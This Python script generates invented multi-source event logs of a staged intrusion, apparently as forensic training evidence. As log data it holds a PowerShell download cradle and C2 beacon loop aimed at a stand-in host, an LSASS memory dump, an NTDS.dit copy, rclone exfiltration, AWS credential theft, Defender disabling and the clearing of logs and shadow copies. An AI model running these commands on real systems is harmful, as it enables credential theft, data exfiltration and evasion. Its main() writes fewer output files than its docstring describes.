"""Write the example event logs of the Ashen Lantern intrusion (examples/evidence/).

The intrusion is the one told in examples/evidence/report-ashen-lantern.md; every host, account, address
and hash is invented. It crosses environments, each in its own native log shape:

- Windows hosts: JSON lines in the flat shape of Windows event exports (NXLog / OTRF style: System fields
  ``EventID``, ``Channel``, ``Hostname``, ``TimeCreated`` next to the event's data fields), for the Sysmon,
  Security, System and PowerShell channels (``<host>.jsonl``);
- a Linux backup server, BKP01: a raw auditd log (``bkp01-audit.log``, SYSCALL/EXECVE/CWD/PATH records of
  one serial, ENRICHED user names), where the operator reads the AWS keys of svc_backup;
- the AWS account those keys open: a CloudTrail ``{"Records": [...]}`` file (``cloudtrail-111122223333.json``);
- the network sensor: Zeek conn, dns and http logs as JSON lines (``zeek-sensor.jsonl``).

The same entities recur across them (the C2 address 198.51.100.23 in Sysmon, Zeek and CloudTrail; FS01's
address in Windows logons, Zeek and the Linux SSH login; svc_backup on Windows, Linux and AWS), so the
case links them. Benign background activity surrounds the attack. Deterministic: the same seed gives the
same files.

    python examples/make_evidence.py            # rewrites examples/evidence/
"""

from __future__ import annotations

import base64
import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

OUT = Path(__file__).resolve().parent / "evidence"
SEED = 20240916
DOMAIN = "NWL"
FQDN = "nwl.local"
HOSTS = {"WS-FIN-07": "10.20.4.57", "WS-HR-03": "10.20.4.31", "FS01": "10.20.1.12", "DC01": "10.20.1.5"}
USERS = {"WS-FIN-07": "jdoe", "WS-HR-03": "asmith", "FS01": "svc_backup", "DC01": "svc_backup"}
START = datetime(2024, 9, 16, 6, 0, tzinfo=timezone.utc)
END = datetime(2024, 9, 17, 6, 0, tzinfo=timezone.utc)

SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "Security")
SYSTEM = ("Service Control Manager", "System")
POWERSHELL = ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational")

rng = random.Random(SEED)
events: dict[str, list[dict]] = {h: [] for h in HOSTS}
pids: dict[tuple[str, str], int] = {}


def guid() -> str:
    h = "%032x" % rng.getrandbits(128)
    return "{%s-%s-%s-%s-%s}" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def pid() -> int:
    return rng.randrange(600, 12000, 4)


def emit(host: str, t: datetime, source: tuple[str, str], event_id: int, message: str, **data) -> None:
    record = {
        "SourceName": source[0], "Channel": source[1], "Hostname": f"{host}.{FQDN}", "Computer": f"{host}.{FQDN}",
        "TimeCreated": t.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        "@timestamp": t.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        "EventID": event_id, "Level": "4", "Message": message,
    }
    if source is SYSMON:
        data.setdefault("UtcTime", t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}")
    record.update({k: (str(v) if isinstance(v, (int, float)) and k not in ("EventID",) else v) for k, v in data.items()})
    events[host].append(record)


def process(host: str, t: datetime, image: str, cmd: str, parent: str, parent_cmd: str, user: str | None = None,
            integrity: str = "Medium", security: bool = True) -> int:
    """A process start as Sysmon 1 and (when audited) Security 4688."""
    user = user or USERS[host]
    new_pid = pid()
    parent_pid = pids.get((host, parent.lower()), pid())
    pids[(host, image.lower())] = new_pid
    name = image.rsplit("\\", 1)[-1]
    emit(host, t, SYSMON, 1, f"Process Create:\r\nImage: {image}\r\nCommandLine: {cmd}",
         RuleName="-", ProcessGuid=guid(), ProcessId=new_pid, Image=image, OriginalFileName=name,
         Description=name, Product="Microsoft® Windows® Operating System", Company="Microsoft Corporation",
         CommandLine=cmd, CurrentDirectory=f"C:\\Users\\{user}\\", User=f"{DOMAIN}\\{user}",
         LogonGuid=guid(), LogonId=hex(rng.getrandbits(24)), TerminalSessionId=1, IntegrityLevel=integrity,
         Hashes="SHA256=%064X" % rng.getrandbits(256), ParentProcessGuid=guid(), ParentProcessId=parent_pid,
         ParentImage=parent, ParentCommandLine=parent_cmd, ParentUser=f"{DOMAIN}\\{user}")
    if security:
        emit(host, t + timedelta(milliseconds=3), SECURITY, 4688, "A new process has been created.",
             SubjectUserSid="S-1-5-21-1004336348-1177238915-682003330-%d" % rng.randrange(1100, 1900),
             SubjectUserName=user, SubjectDomainName=DOMAIN, SubjectLogonId=hex(rng.getrandbits(24)),
             NewProcessId=hex(new_pid), NewProcessName=image, TokenElevationType="%%1938", ProcessId=hex(parent_pid),
             CommandLine=cmd, TargetUserSid="S-1-0-0", TargetUserName="-", TargetDomainName="-", TargetLogonId="0x0",
             ParentProcessName=parent, MandatoryLabel="S-1-16-8192" if integrity == "Medium" else "S-1-16-12288")
    return new_pid


def network(host: str, t: datetime, image: str, dest_ip: str, port: int, dest_host: str = "") -> None:
    emit(host, t, SYSMON, 3, "Network connection detected.", RuleName="-", ProcessGuid=guid(),
         ProcessId=pids.get((host, image.lower()), pid()), Image=image, User=f"{DOMAIN}\\{USERS[host]}",
         Protocol="tcp", Initiated="true", SourceIsIpv6="false", SourceIp=HOSTS[host], SourceHostname=f"{host}.{FQDN}",
         SourcePort=rng.randrange(49152, 65535), DestinationIsIpv6="false", DestinationIp=dest_ip,
         DestinationHostname=dest_host, DestinationPort=port, DestinationPortName="https" if port == 443 else "")


def dns(host: str, t: datetime, image: str, name: str, answer: str) -> None:
    emit(host, t, SYSMON, 22, "Dns query:", RuleName="-", ProcessGuid=guid(),
         ProcessId=pids.get((host, image.lower()), pid()), QueryName=name, QueryStatus="0",
         QueryResults=f"::ffff:{answer};", Image=image, User=f"{DOMAIN}\\{USERS[host]}")


def file_create(host: str, t: datetime, image: str, target: str) -> None:
    emit(host, t, SYSMON, 11, "File created:", RuleName="-", ProcessGuid=guid(),
         ProcessId=pids.get((host, image.lower()), pid()), Image=image, TargetFilename=target,
         CreationUtcTime=t.strftime("%Y-%m-%d %H:%M:%S.000"), User=f"{DOMAIN}\\{USERS[host]}")


def logon(host: str, t: datetime, user: str, logon_type: int, source_ip: str = "-", workstation: str = "-") -> None:
    emit(host, t, SECURITY, 4624, "An account was successfully logged on.", SubjectUserSid="S-1-0-0",
         SubjectUserName="-", SubjectDomainName="-", SubjectLogonId="0x0", TargetUserSid="S-1-5-21-1004336348-%d" %
         rng.randrange(1000, 9999), TargetUserName=user, TargetDomainName=DOMAIN, TargetLogonId=hex(rng.getrandbits(24)),
         LogonType=logon_type, LogonProcessName="NtLmSsp" if logon_type == 3 else "User32",
         AuthenticationPackageName="NTLM" if logon_type == 3 else "Negotiate", WorkstationName=workstation,
         LogonGuid="{00000000-0000-0000-0000-000000000000}", IpAddress=source_ip, IpPort=rng.randrange(49152, 65535)
         if source_ip != "-" else "-", ImpersonationLevel="%%1833", ElevatedToken="%%1842")


W = "C:\\Windows\\System32\\"
EXPLORER = "C:\\Windows\\explorer.exe"


def background() -> None:
    """Ordinary activity on every host: services, browsers, Office, logons, DNS, network."""
    benign = [
        (W + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", W + "services.exe"),
        (W + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", W + "svchost.exe"),
        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
         "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US", EXPLORER),
        ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
         "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument", EXPLORER),
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
         "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", EXPLORER),
        (W + "backgroundTaskHost.exe", "\"backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
         W + "svchost.exe"),
        (W + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", W + "cmd.exe"),
        (W + "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_",
         W + "SearchIndexer.exe"),
        ("C:\\Program Files\\Windows Defender\\MpCmdRun.exe", "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" "
         "SignatureUpdate -ScheduleJob -RestrictPrivileges", W + "svchost.exe"),
        (W + "gpupdate.exe", "gpupdate.exe /target:computer", W + "svchost.exe"),
        (W + "WindowsPowerShell\\v1.0\\powershell.exe",
         "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\IT\\inventory.ps1", W + "svchost.exe"),
    ]
    sites = [("www.office.com", "52.96.36.162"), ("login.microsoftonline.com", "20.190.151.7"),
             ("teams.microsoft.com", "52.113.194.132"), ("www.google.com", "142.250.185.68"),
             ("outlook.office365.com", "52.97.146.162")]
    for host in HOSTS:
        is_server = host in ("FS01", "DC01")
        n = 140 if is_server else 260
        span = (END - START).total_seconds()
        for _ in range(n):
            t = START + timedelta(seconds=rng.uniform(0, span))
            kind = rng.random()
            if kind < 0.55:
                image, cmd, parent = rng.choice(benign[:2] + benign[5:] if is_server else benign)
                user = "SYSTEM" if parent.endswith(("services.exe", "svchost.exe")) else None
                process(host, t, image, cmd, parent, parent, user=user)
            elif kind < 0.7 and not is_server:
                name, ip = rng.choice(sites)
                dns(host, t, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", name, ip)
                network(host, t + timedelta(milliseconds=40), "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                        ip, 443, name)
            elif kind < 0.9:
                src = rng.choice([ip for h, ip in HOSTS.items() if h != host])
                logon(host, t, rng.choice(["asmith", "jdoe", "mlopez", f"{host}$"]), rng.choice([3, 3, 5, 2]), src)
            else:
                file_create(host, t, W + "svchost.exe", f"C:\\Windows\\Temp\\{rng.getrandbits(32):08x}.tmp")


def at(day: int, hh: int, mm: int, ss: int = 0, ms: int = 0) -> datetime:
    return datetime(2024, 9, day, hh, mm, ss, ms * 1000, tzinfo=timezone.utc)


def attack() -> None:
    """The intrusion, step by step as the report tells it."""
    ws, fs, dc = "WS-FIN-07", "FS01", "DC01"
    ps = W + "WindowsPowerShell\\v1.0\\powershell.exe"
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    lure = "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K7Q2ZP1M\\Invoice_Q3_0916.docm"
    implant = "C:\\Users\\jdoe\\AppData\\Local\\Temp\\msedgeupd.exe"
    # initial access: the lure opened from Outlook, macro starts a shell
    file_create(ws, at(16, 8, 41, 2), outlook, lure)
    process(ws, at(16, 8, 41, 9), word, f"\"{word}\" /n \"{lure}\" /o \"\"", outlook, f"\"{outlook}\"")
    cradle = ("IEX (New-Object Net.WebClient).DownloadString('https://cdn.nwl-filesync.com/update/check.ps1')")
    encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
    process(ws, at(16, 8, 42, 15), W + "cmd.exe", f"cmd.exe /c powershell -nop -w hidden -enc {encoded}", word,
            f"\"{word}\" /n \"{lure}\"")
    process(ws, at(16, 8, 42, 16), ps, f"powershell  -nop -w hidden -enc {encoded}", W + "cmd.exe",
            f"cmd.exe /c powershell -nop -w hidden -enc {encoded}")
    emit(ws, at(16, 8, 42, 17), POWERSHELL, 4104, "Creating Scriptblock text (1 of 1):", MessageNumber=1,
         MessageTotal=1, ScriptBlockText=cradle, ScriptBlockId=guid()[1:-1], Path="")
    dns(ws, at(16, 8, 42, 17, 400), ps, "cdn.nwl-filesync.com", "198.51.100.23")
    network(ws, at(16, 8, 42, 17, 600), ps, "198.51.100.23", 443, "cdn.nwl-filesync.com")
    stage2 = ("$u='https://198.51.100.23/api/v2/sync';while($true){try{$r=(New-Object Net.WebClient)"
              ".DownloadString($u);IEX $r}catch{};Start-Sleep -s (Get-Random -Min 50 -Max 70)}")
    emit(ws, at(16, 8, 42, 19), POWERSHELL, 4104, "Creating Scriptblock text (1 of 1):", MessageNumber=1,
         MessageTotal=1, ScriptBlockText=stage2, ScriptBlockId=guid()[1:-1], Path="")
    # beaconing over HTTPS, every ~60 s for the first hour then sparser
    t = at(16, 8, 43, 20)
    while t < at(16, 23, 0):
        network(ws, t, ps, "198.51.100.23", 443)
        t += timedelta(seconds=rng.uniform(50, 70) if t < at(16, 9, 40) else rng.uniform(600, 1500))
    file_create(ws, at(16, 8, 43, 50), ps, implant)
    # persistence
    process(ws, at(16, 8, 44, 31), W + "schtasks.exe",
            f"schtasks /create /sc onlogon /tn \"MicrosoftEdgeUpdateTaskCore\" /tr \"{implant}\" /f", ps, "powershell")
    emit(ws, at(16, 8, 44, 31, 200), SECURITY, 4698, "A scheduled task was created.", SubjectUserName="jdoe",
         SubjectDomainName=DOMAIN, TaskName="\\MicrosoftEdgeUpdateTaskCore",
         TaskContent=f"<Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>{implant}</Command></Exec>"
                     "</Actions></Task>")
    process(ws, at(16, 8, 45, 3), W + "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
            f"/v OneDriveSync /t REG_SZ /d \"{implant}\" /f", ps, "powershell")
    emit(ws, at(16, 8, 45, 3, 100), SYSMON, 13, "Registry value set:", RuleName="-", EventType="SetValue",
         ProcessGuid=guid(), ProcessId=pids[(ws, (W + "reg.exe").lower())], Image=W + "reg.exe",
         TargetObject="HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Windows\\CurrentVersion"
                      "\\Run\\OneDriveSync", Details=implant, User=f"{DOMAIN}\\jdoe")
    # discovery burst
    recon = [("whoami.exe", "whoami /all"), ("net.exe", "net group \"domain admins\" /domain"),
             ("nltest.exe", "nltest /domain_trusts"), ("net.exe", "net view"), ("ipconfig.exe", "ipconfig /all"),
             ("systeminfo.exe", "systeminfo")]
    t = at(16, 9, 10, 4)
    for exe, cmd in recon:
        process(ws, t, W + exe, cmd, ps, "powershell")
        t += timedelta(seconds=rng.uniform(8, 40))
    # credential access: LSASS dump through comsvcs.dll
    lsass_pid = 684
    process(ws, at(16, 14, 20, 11), W + "rundll32.exe",
            f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} C:\\Users\\Public\\lsass.dmp full",
            ps, "powershell", integrity="High")
    emit(ws, at(16, 14, 20, 11, 300), SYSMON, 10, "Process accessed:", RuleName="-", SourceProcessGUID=guid(),
         SourceProcessId=pids[(ws, (W + "rundll32.exe").lower())], SourceThreadId=rng.randrange(1000, 9000),
         SourceImage=W + "rundll32.exe", TargetProcessGUID=guid(), TargetProcessId=lsass_pid,
         TargetImage=W + "lsass.exe", GrantedAccess="0x1FFFFF",
         CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\comsvcs.dll+22f1b|UNKNOWN(000001D2A4B1)",
         SourceUser=f"{DOMAIN}\\jdoe", TargetUser="NT AUTHORITY\\SYSTEM")
    file_create(ws, at(16, 14, 20, 13), W + "rundll32.exe", "C:\\Users\\Public\\lsass.dmp")
    # lateral movement to FS01 with PsExec and svc_backup
    psexec = "C:\\Users\\Public\\PsExec64.exe"
    process(ws, at(17, 2, 13, 40), psexec, f"{psexec} \\\\FS01 -u {DOMAIN}\\svc_backup -p ******** -accepteula cmd.exe",
            ps, "powershell")
    logon(fs, at(17, 2, 13, 42), "svc_backup", 3, HOSTS[ws], ws)
    emit(fs, at(17, 2, 13, 42, 500), SECURITY, 5140, "A network share object was accessed.", SubjectUserName="svc_backup",
         SubjectDomainName=DOMAIN, ObjectType="File", IpAddress=HOSTS[ws], IpPort=rng.randrange(49152, 65535),
         ShareName="\\\\*\\ADMIN$", ShareLocalPath="\\??\\C:\\Windows", AccessMask="0x1")
    emit(fs, at(17, 2, 13, 43), SYSTEM, 7045, "A service was installed in the system.", ServiceName="PSEXESVC",
         ImagePath="%SystemRoot%\\PSEXESVC.exe", ServiceType="user mode service", StartType="demand start",
         AccountName="LocalSystem")
    process(fs, at(17, 2, 13, 44), "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", W + "services.exe",
            W + "services.exe", user="SYSTEM", integrity="System")
    process(fs, at(17, 2, 13, 45), W + "cmd.exe", "\"cmd.exe\"", "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe", user="svc_backup", integrity="High")
    # WMI from FS01 to DC01
    process(fs, at(17, 2, 20, 5), W + "wbem\\WMIC.exe",
            "wmic /node:DC01 process call create \"cmd.exe /c ntdsutil \\\"ac i ntds\\\" ifm \\\"create full "
            "C:\\ProgramData\\temp\\\" q q\"", W + "cmd.exe", "\"cmd.exe\"", user="svc_backup", integrity="High")
    logon(dc, at(17, 2, 20, 6), "svc_backup", 3, HOSTS[fs], fs)
    process(dc, at(17, 2, 20, 7), W + "cmd.exe", "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full "
            "C:\\ProgramData\\temp\" q q", W + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe "
            "-secured -Embedding", user="svc_backup", integrity="High")
    process(dc, at(17, 2, 20, 8), W + "ntdsutil.exe", "ntdsutil  \"ac i ntds\" ifm \"create full C:\\ProgramData\\temp\" "
            "q q", W + "cmd.exe", "cmd.exe /c ntdsutil", user="svc_backup", integrity="High")
    file_create(dc, at(17, 2, 31, 40), W + "ntdsutil.exe", "C:\\ProgramData\\temp\\Active Directory\\ntds.dit")
    file_create(dc, at(17, 2, 31, 41), W + "ntdsutil.exe", "C:\\ProgramData\\temp\\registry\\SYSTEM")
    # collection and exfiltration from FS01
    sevenzip = "C:\\ProgramData\\7z.exe"
    process(fs, at(17, 3, 5, 12), sevenzip, f"{sevenzip} a -pN0rthw1nd! -mhe=on C:\\ProgramData\\fin.7z "
            "D:\\Shares\\Finance\\*", W + "cmd.exe", "\"cmd.exe\"", user="svc_backup", integrity="High")
    file_create(fs, at(17, 3, 31, 55), sevenzip, "C:\\ProgramData\\fin.7z")
    rclone = "C:\\ProgramData\\rclone.exe"
    process(fs, at(17, 3, 40, 2), rclone, f"{rclone} copy C:\\ProgramData\\fin.7z mega:backup --config "
            "C:\\ProgramData\\rc.conf --transfers 8 -q", W + "cmd.exe", "\"cmd.exe\"", user="svc_backup",
            integrity="High")
    for i in range(24):
        network(fs, at(17, 3, 40, 5) + timedelta(seconds=60 * i + rng.uniform(0, 20)), rclone,
                rng.choice(["31.216.145.5", "31.216.144.5", "89.44.169.135"]), 443, "g.api.mega.co.nz")
    # defense evasion and impact preparation
    for host, t0 in ((ws, at(17, 4, 8, 30)), (fs, at(17, 4, 10, 2))):
        process(host, t0, ps, "powershell -nop -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
                W + "cmd.exe", "\"cmd.exe\"", user="svc_backup", integrity="High")
        process(host, t0 + timedelta(seconds=20), W + "wevtutil.exe", "wevtutil cl Security", W + "cmd.exe",
                "\"cmd.exe\"", user="svc_backup", integrity="High")
        emit(host, t0 + timedelta(seconds=20, milliseconds=400), SECURITY, 1102, "The audit log was cleared.",
             SubjectUserSid="S-1-5-21-1004336348-1177238915-682003330-1190", SubjectUserName="svc_backup",
             SubjectDomainName=DOMAIN, SubjectLogonId=hex(rng.getrandbits(24)))
    process(fs, at(17, 4, 15, 9), W + "vssadmin.exe", "vssadmin delete shadows /all /quiet", W + "cmd.exe",
            "\"cmd.exe\"", user="svc_backup", integrity="High")


LINUX_HOST, LINUX_IP = "bkp01", "10.20.1.30"
C2 = "198.51.100.23"
ACCOUNT = "111122223333"
MEGA = ["31.216.145.5", "31.216.144.5", "89.44.169.135"]
audit_lines: list[tuple[float, str]] = []
trail: list[dict] = []
zeek: list[dict] = []
serial = [4100]


def audit_event(t: datetime, records: list[tuple[str, str, str]]) -> None:
    """One audit event: (type, raw fields, enriched fields) records sharing one ``audit(ts:serial)`` stamp."""
    serial[0] += rng.randrange(3, 40)
    stamp = f"{t.timestamp():.3f}:{serial[0]}"
    for kind, body, enriched in records:
        line = f"node={LINUX_HOST} type={kind} msg=audit({stamp}): {body}"
        audit_lines.append((t.timestamp(), line + ("\x1d" + enriched if enriched else "")))


def linux_exec(t: datetime, user: str, uid: int, exe: str, args: list[str], cwd: str, ses: int) -> None:
    argv = " ".join(f'a{i}="{a}"' for i, a in enumerate(args))
    audit_event(t, [
        ("SYSCALL", f"arch=c000003e syscall=59 success=yes exit=0 a0=55d5c2f0 a1=55d5c310 a2=55d5c330 a3=0 "
                    f"items=2 ppid={pid()} pid={pid()} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} "
                    f"fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses={ses} comm=\"{exe.rsplit('/', 1)[-1]}\" "
                    f"exe=\"{exe}\" subj=unconfined key=\"exec\"",
         f'ARCH=x86_64 SYSCALL=execve AUID="{user}" UID="{user}" GID="{user}" EUID="{user}"'),
        ("EXECVE", f"argc={len(args)} {argv}", ""),
        ("CWD", f'cwd="{cwd}"', ""),
        ("PATH", f'item=0 name="{exe}" inode={rng.randrange(100000, 999999)} dev=fd:00 mode=0100755 ouid=0 '
                 "ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0", 'OUID="root" OGID="root"'),
        ("PROCTITLE", "proctitle=" + "00".join(a.encode().hex() for a in args), ""),
    ])


def ssh_login(t: datetime, user: str, uid: int, addr: str, ses: int) -> None:
    audit_event(t, [("USER_LOGIN", f"pid={pid()} uid=0 auid={uid} ses={ses} subj=unconfined "
                     f"msg='op=login id={uid} exe=\"/usr/sbin/sshd\" hostname={addr} addr={addr} terminal=/dev/pts/0 "
                     "res=success'", f'UID="root" AUID="{user}" ID="{user}"')])


def cloud_call(t: datetime, name: str, source: str, user: str, ip: str, agent: str, key: str, **extra) -> None:
    trail.append({
        "eventVersion": "1.08", "eventTime": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": source,
        "eventName": name, "awsRegion": "eu-west-1", "sourceIPAddress": ip, "userAgent": agent,
        "userIdentity": {"type": "IAMUser", "principalId": "AIDA" + key[4:20], "userName": user,
                         "arn": f"arn:aws:iam::{ACCOUNT}:user/{user}", "accountId": ACCOUNT, "accessKeyId": key},
        "requestParameters": extra.pop("request", None), "responseElements": extra.pop("response", None),
        "eventID": guid()[1:-1].lower(), "readOnly": extra.pop("read_only", False), "eventType": "AwsApiCall",
        "managementEvent": True, "recipientAccountId": ACCOUNT, "eventCategory": "Management", **extra})


def zeek_conn(t: datetime, orig: str, resp: str, port: int, service: str, duration: float, sent: int, recv: int,
              uid: str | None = None) -> str:
    uid = uid or "C" + "%016x" % rng.getrandbits(64)
    zeek.append({"_path": "conn", "ts": t.isoformat(timespec="microseconds").replace("+00:00", "Z"), "uid": uid,
                 "id.orig_h": orig, "id.orig_p": rng.randrange(49152, 65535), "id.resp_h": resp, "id.resp_p": port,
                 "proto": "udp" if port == 53 else "tcp", "service": service, "duration": round(duration, 6),
                 "orig_bytes": sent, "resp_bytes": recv, "conn_state": "SF", "local_orig": True,
                 "local_resp": resp.startswith("10."), "missed_bytes": 0, "history": "ShADadfF"})
    return uid


def zeek_dns(t: datetime, orig: str, query: str, answer: str) -> None:
    uid = zeek_conn(t, orig, HOSTS["DC01"], 53, "dns", 0.002, 48, 64)
    zeek.append({"_path": "dns", "ts": t.isoformat(timespec="microseconds").replace("+00:00", "Z"), "uid": uid,
                 "id.orig_h": orig, "id.orig_p": rng.randrange(49152, 65535), "id.resp_h": HOSTS["DC01"],
                 "id.resp_p": 53, "proto": "udp", "trans_id": rng.randrange(1, 65535), "query": query,
                 "qclass": 1, "qclass_name": "C_INTERNET", "qtype": 1, "qtype_name": "A", "rcode": 0,
                 "rcode_name": "NOERROR", "AA": False, "TC": False, "RD": True, "RA": True, "Z": 0,
                 "answers": [answer], "TTLs": [300.0], "rejected": False})


def zeek_http(t: datetime, orig: str, resp: str, host: str, uri: str, agent: str, size: int, mime: str) -> None:
    uid = zeek_conn(t, orig, resp, 80, "http", 0.41, 310, size + 420)
    zeek.append({"_path": "http", "ts": t.isoformat(timespec="microseconds").replace("+00:00", "Z"), "uid": uid,
                 "id.orig_h": orig, "id.orig_p": rng.randrange(49152, 65535), "id.resp_h": resp, "id.resp_p": 80,
                 "trans_depth": 1, "method": "GET", "host": host, "uri": uri, "version": "1.1", "user_agent": agent,
                 "request_body_len": 0, "response_body_len": size, "status_code": 200, "status_msg": "OK",
                 "resp_mime_types": [mime]})


def other_environments() -> None:
    """BKP01 (Linux), the AWS account and the Zeek sensor: background, then the attack's traces there."""
    key_admin, key_backup = "AKIA2EXAMPLEADMIN001", "AKIA2EXAMPLEBACKUP01"
    # background: backup jobs on BKP01, the admin's AWS console work, ordinary web and DNS traffic
    t = START + timedelta(minutes=20)
    while t < END:
        linux_exec(t, "svc_backup", 1001, "/usr/bin/rsync", ["rsync", "-a", "/srv/exports/", "/backup/daily/"],
                   "/home/svc_backup", rng.randrange(10, 90))
        cloud_call(t + timedelta(minutes=3), "PutObject", "s3.amazonaws.com", "svc_backup", LINUX_IP,
                   "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0", key_backup, read_only=False,
                   request={"bucketName": "nwl-backups", "key": f"daily/{t:%Y%m%d%H}.tar.zst"})
        t += timedelta(hours=4)
    for hour in (9, 11, 15):
        cloud_call(at(16, hour, 5), "DescribeInstances", "ec2.amazonaws.com", "it.admin", "20.190.151.99",
                   "console.amazonaws.com", key_admin, read_only=True)
    sites = [("www.office.com", "52.96.36.162"), ("login.microsoftonline.com", "20.190.151.7"),
             ("update.googleapis.com", "142.250.179.99")]
    t = START
    while t < END:
        host = rng.choice(list(HOSTS))
        name, addr = rng.choice(sites)
        zeek_dns(t, HOSTS[host], name, addr)
        zeek_conn(t + timedelta(milliseconds=30), HOSTS[host], addr, 443, "ssl", rng.uniform(0.5, 30),
                  rng.randrange(900, 9000), rng.randrange(2000, 90000))
        t += timedelta(seconds=rng.uniform(120, 600))
    # the attack as the sensor saw it: the stage-2 download, the C2 beacons, the MEGA upload
    ws, fs = HOSTS["WS-FIN-07"], HOSTS["FS01"]
    zeek_dns(at(16, 8, 42, 17, 380), ws, "cdn.nwl-filesync.com", C2)
    zeek_http(at(16, 8, 43, 48), ws, C2, C2, "/update/msedgeupd.exe",
              "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4894", 1483264,
              "application/x-dosexec")
    t = at(16, 8, 43, 20)
    while t < at(16, 9, 40):
        zeek_conn(t, ws, C2, 443, "ssl", rng.uniform(0.2, 0.9), rng.randrange(400, 900), rng.randrange(300, 2000))
        t += timedelta(seconds=rng.uniform(50, 70))
    zeek_dns(at(17, 3, 40, 3), fs, "g.api.mega.co.nz", MEGA[0])
    for i in range(24):
        zeek_conn(at(17, 3, 40, 5) + timedelta(seconds=60 * i), fs, rng.choice(MEGA), 443, "ssl",
                  rng.uniform(40, 59), rng.randrange(40_000_000, 60_000_000), rng.randrange(9000, 20000))
    # FS01 -> BKP01 over SSH with svc_backup; the operator reads the AWS keys kept there
    zeek_conn(at(17, 2, 50, 1), fs, LINUX_IP, 22, "ssh", 1260.4, 48211, 90233)
    ssh_login(at(17, 2, 50, 2), "svc_backup", 1001, fs, 7)
    linux_exec(at(17, 2, 51, 10), "svc_backup", 1001, "/usr/bin/cat",
               ["cat", "/home/svc_backup/.aws/credentials"], "/home/svc_backup", 7)
    linux_exec(at(17, 2, 52, 30), "svc_backup", 1001, "/usr/bin/curl",
               ["curl", "-s", "-o", "/tmp/.k", f"http://{C2}/k"], "/tmp", 7)
    zeek_http(at(17, 2, 52, 30, 400), LINUX_IP, C2, C2, "/k", "curl/7.81.0", 2048, "text/plain")
    # and uses them from the C2 address: who am I, a key of its own, then blind the trail
    cloud_call(at(17, 3, 2, 11), "GetCallerIdentity", "sts.amazonaws.com", "svc_backup", C2,
               "aws-cli/2.13.0 Python/3.11.4 Windows/10", key_backup, read_only=True)
    cloud_call(at(17, 3, 3, 40), "ListBuckets", "s3.amazonaws.com", "svc_backup", C2,
               "aws-cli/2.13.0 Python/3.11.4 Windows/10", key_backup, read_only=True)
    cloud_call(at(17, 3, 6, 2), "CreateAccessKey", "iam.amazonaws.com", "svc_backup", C2,
               "aws-cli/2.13.0 Python/3.11.4 Windows/10", key_backup, request={"userName": "svc_backup"},
               response={"accessKey": {"accessKeyId": "AKIA2EXAMPLEATTACK01", "status": "Active",
                                       "userName": "svc_backup"}})
    cloud_call(at(17, 4, 20, 30), "StopLogging", "cloudtrail.amazonaws.com", "svc_backup", C2,
               "aws-cli/2.13.0 Python/3.11.4 Windows/10", "AKIA2EXAMPLEATTACK01",
               request={"name": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/org-trail"})


def main() -> None:
    background()
    attack()
    other_environments()
    OUT.mkdir(parents=True, exist_ok=True)
    for host, recs in events.items():
        recs.sort(key=lambda r: (r["TimeCreated"], r["EventID"]))
        path = OUT / f"{host.lower()}.jsonl"
        with path.open("w", encoding="utf-8", newline="\n") as fh:
            for rec in recs:
                fh.write(json.dumps(rec, ensure_ascii=False) + "\n")
        print(f"{path.name}: {len(recs)} events")
    audit_lines.sort(key=lambda x: x[0])
    (OUT / f"{LINUX_HOST}-audit.log").write_text("".join(line + "\n" for _, line in audit_lines), encoding="utf-8")
